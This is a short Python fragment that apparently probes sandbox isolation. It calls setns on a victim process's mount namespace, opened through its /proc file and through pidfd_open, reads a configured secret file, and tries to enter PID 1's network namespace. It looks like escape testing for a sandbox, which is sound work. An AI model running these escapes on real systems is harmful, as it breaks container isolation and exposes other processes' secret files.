# Entering the namespaces of a process outside: setns by its /proc files and by its pidfd.
SETNS, PIDFD_OPEN = 308, 434
CLONE_NEWNS, CLONE_NEWNET = 0x00020000, 0x40000000


def mount_namespace_by_file():
    namespace = os.open(f"/proc/{setting('VICTIM')}/ns/mnt", os.O_RDONLY)
    call(SETNS, namespace, CLONE_NEWNS)
    return read(setting("SECRET_FILE"))


def network_namespace_of_pid_1():
    namespace = os.open("/proc/1/ns/net", os.O_RDONLY)
    call(SETNS, namespace, CLONE_NEWNET)
    if len(os.listdir("/proc/self/net/dev_snmp6")) > 1:
        return "entered a network"
    raise Refused("only loopback there")


def mount_namespace_by_pidfd():
    call(SETNS, call(PIDFD_OPEN, int(setting("VICTIM")), 0), CLONE_NEWNS)
    return read(setting("SECRET_FILE"))


attempt(mount_namespace_by_file, mount_namespace_by_pidfd, network_namespace_of_pid_1)
